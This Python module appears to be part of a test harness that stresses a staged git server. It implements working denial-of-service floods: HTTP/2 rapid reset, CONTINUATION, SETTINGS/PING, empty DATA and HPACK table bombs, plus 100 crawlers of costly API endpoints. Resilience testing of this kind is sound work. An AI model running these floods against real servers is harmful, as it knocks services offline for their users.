"""Attacks by frames of HTTP/2 that ask for nothing, by heads of requests, and by crawlers of the API."""

import itertools
import os
import selectors
from urllib.parse import quote

from attacks import stage, wire

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, DATA = 1, 3, 4, 6, 9, 0
END_STREAM, END_HEADERS = 1, 4


def head(path="/healthy/info/refs?service=git-upload-pack", more=()):
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", path), *more]
    return b"".join(b"\x00" + wire.text(name) + wire.text(value) for name, value in fields)


def flood(attack, connections, frames):
    """Sends what `frames` gives for each connection over and over, and connects again when it is cut off."""
    open_ones = []
    while attack.goes_on():
        while len(open_ones) < connections and attack.goes_on():
            with attack.tolerant():
                connection = wire.H2(attack.address(), attack.http_port)
                open_ones.append((connection, frames()))
        still = []
        for connection, given in open_ones:
            with attack.tolerant():
                connection.socket.sendall(next(given))
                if connection.listen():
                    still.append((connection, given))
        open_ones = still
        attack.pause(0.002)


def resets():
    """Requests that are taken back at once (CVE-2023-44487)."""
    block = head()
    for first in itertools.count(1, 200):
        yield b"".join(
            wire.frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            + wire.frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 200, 2)
        )


def continuations():
    """A head that does not end (CVE-2024-24549 and others)."""
    yield wire.frame(HEADERS, END_STREAM, 1, head())
    field = b"\x00" + wire.text("x-long") + wire.text("v" * 4000)
    while True:
        yield wire.frame(CONTINUATION, 0, 1, field * 4)


def settings():
    """Frames that the server must acknowledge, and nobody reads (CVE-2019-9512, 9515)."""
    while True:
        yield wire.frame(SETTINGS, 0, 0) * 200 + wire.frame(PING, 0, 0, b"8 bytes!") * 200


def empty_data():
    """Pieces of a body that have no bytes (CVE-2019-9518)."""
    fields = [("content-type", wire.UPLOAD_PACK)]
    block = head("/healthy/git-upload-pack", fields).replace(wire.text("GET"), wire.text("POST"))
    yield wire.frame(HEADERS, END_HEADERS, 1, block)
    while True:
        yield wire.frame(DATA, 0, 1) * 500


def table_bombs():
    """Heads that name one long field of the table over and over (RFC 7541, 7.3)."""
    for stream in itertools.count(1, 2):
        first = b"\x40" + wire.text("x-bomb") + wire.text("v" * 3900) if stream == 1 else b""
        # Field 62 is the newest of the table.
        yield wire.frame(HEADERS, END_STREAM | END_HEADERS, stream, head() + first + b"\xbe" * 4000)


def h2_floods(attack):
    """All of these, a few connections each, in turn."""
    kinds = itertools.cycle([resets, continuations, settings, empty_data, table_bombs])
    flood(attack, 20, lambda: next(kinds)())


def crawlers(attack):
    """A hundred crawlers that ask for archives, patches and blame, and for logs and lines of files, and read
    all."""
    file, numbers = quote(attack.given["file"]), itertools.count()
    paths = itertools.cycle([
        "archive", f"blame?path={file}&last_line=1{{n}}", f"commits?path={file}&limit=100",
        "grep?pattern=the", "patch?base=main~100", "tree?recursive=true", "tree?last_commits=true",
    ])
    selector = selectors.DefaultSelector()

    def ask():
        with attack.tolerant():
            s = wire.connect(attack.address(), attack.http_port)
            path = "/api/v1/repositories/healthy/" + next(paths).replace("{n}", f"{next(numbers):06}")
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            selector.register(s, selectors.EVENT_READ)

    while attack.goes_on():
        while len(selector.get_map()) < 100 and attack.goes_on():
            ask()
        attack.ready.set()
        for key, _ in selector.select(0.2):
            if wire.read_some(key.fileobj, 1 << 20) is None:
                selector.unregister(key.fileobj)
                key.fileobj.close()


def prepare_crawlers():
    files = stage.git(stage.upstream("healthy"), "ls-tree", "-r", "--name-only", "main")
    return {"file": files.splitlines()[0]}


def idle_loops(attack):
    """Not an attack: a loop for each processor, of the class that runs only where nothing else would. The
    healthy client suffers as much from the machine alone."""
    for _ in range(os.cpu_count()):
        if os.fork() == 0:
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
            parent = os.getppid()
            while os.getppid() == parent:
                sum(range(100_000))
            os._exit(0)
    attack.rest()


ATTACKS = [
    ("h2", "floods of HTTP/2 frames: resets, continuations, settings, empty data, table bombs", h2_floods, [],
     dict, 4),
    ("crawlers", "100 crawlers of the API, blame, patches and archives among them", crawlers, [],
     prepare_crawlers, 100),
    ("idle", "for comparison: idle loops, a processor each, and nothing asked", idle_loops, [], dict, 1),
]
